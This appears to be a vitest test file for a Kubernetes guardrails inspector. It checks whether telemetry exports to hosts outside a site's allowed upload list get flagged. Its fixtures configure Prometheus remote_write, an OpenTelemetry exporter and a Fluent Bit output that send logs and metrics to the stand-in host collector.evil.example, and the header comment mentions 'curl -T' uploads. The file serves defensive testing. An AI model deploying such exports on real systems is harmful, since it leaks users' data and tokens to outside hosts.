import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import { guardSettings, kube } from '../support/guardrails.js';

/**
 * Open (sweep49, issue #12): telemetry shipped to a host outside the site's lists. A site that lists
 * where data may go (`guardrails.upload_hosts`, data_upload_outside) asks for a container's `curl -T`
 * to another host, but not for a Prometheus that remote-writes every series (labels carry user
 * names, e-mail addresses, tokens a careless exporter puts in a label) to another host, nor for an
 * OpenTelemetry Collector or a Fluent Bit that exports every log line there. Each row is a wrong
 * allow today (it.fails); the rule that reads these destinations against `upload_hosts` is a design
 * question for the lead (docs/guardrails.md, data_upload_outside, "Not read"). The routine rows
 * (kube-prometheus-stack's Prometheus, the operator's example collector, destinations the site
 * lists) must keep asking nothing when it lands.
 */

const settings = guardSettings('guardrails:\n  upload_hosts: [metrics.corp.example, "*.grafana.net", otlp.corp.example, logs.corp.example]\n');
const EVIL = 'https://collector.evil.example';
const asked = (path: string, obj: unknown) => inspect(kube('POST', path), JSON.stringify(obj), 'application/json', false, settings).violations.filter((v) => v.code === 'data_upload_outside');

const PROMETHEUS = '/apis/monitoring.coreos.com/v1/namespaces/monitoring/prometheuses';
const prometheus = (spec: Record<string, unknown>) => ({ apiVersion: 'monitoring.coreos.com/v1', kind: 'Prometheus', metadata: { name: 'k8s', namespace: 'monitoring' }, spec: { replicas: 2, serviceAccountName: 'prometheus-k8s', serviceMonitorSelector: {}, ...spec } });
const OTEL = '/apis/opentelemetry.io/v1beta1/namespaces/observability/opentelemetrycollectors';
const collector = (exporters: Record<string, unknown>) => ({
  apiVersion: 'opentelemetry.io/v1beta1',
  kind: 'OpenTelemetryCollector',
  metadata: { name: 'otel', namespace: 'observability' },
  spec: { mode: 'deployment', config: { receivers: { otlp: { protocols: { grpc: { endpoint: '0.0.0.0:4317' } } } }, exporters, service: { pipelines: { traces: { receivers: ['otlp'], exporters: Object.keys(exporters) } } } } },
});
const CM = '/api/v1/namespaces/monitoring/configmaps';
const configMap = (key: string, text: string) => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'telemetry', namespace: 'monitoring' }, data: { [key]: text } });

describe('telemetry to a host outside upload_hosts (open: wrong allows)', () => {
  it.fails.each([
    ['a Prometheus CR remote-writing every series outside', PROMETHEUS, prometheus({ remoteWrite: [{ url: `${EVIL}/api/v1/write` }] })],
    ['an OpenTelemetryCollector exporting traces outside (otlphttp)', OTEL, collector({ otlphttp: { endpoint: EVIL } })],
    ["a ConfigMap's prometheus.yml remote_write outside", CM, configMap('prometheus.yml', `global:\n  scrape_interval: 30s\nremote_write:\n  - url: ${EVIL}/api/v1/write\n`)],
    ["a ConfigMap's Fluent Bit output to an outside host", CM, configMap('fluent-bit.conf', '[INPUT]\n    Name tail\n    Path /var/log/containers/*.log\n[OUTPUT]\n    Name http\n    Match *\n    Host collector.evil.example\n    Port 443\n    tls On\n')],
  ])('%s', (_what, path, obj) => {
    expect(asked(path, obj)).toHaveLength(1);
  });

  it.each([
    ["kube-prometheus-stack's Prometheus (no remote write)", PROMETHEUS, prometheus({ ruleSelector: {}, retention: '10d' })],
    ['a Prometheus remote-writing to a listed host', PROMETHEUS, prometheus({ remoteWrite: [{ url: 'https://prometheus-prod-01-eu-west-0.grafana.net/api/prom/push' }] })],
    ["the operator's example collector (debug exporter, an in-cluster Jaeger)", OTEL, collector({ debug: {}, 'otlp/jaeger': { endpoint: 'jaeger-collector.observability.svc:4317', tls: { insecure: true } } })],
  ])('asks nothing for %s', (_what, path, obj) => {
    expect(asked(path, obj)).toEqual([]);
  });
});
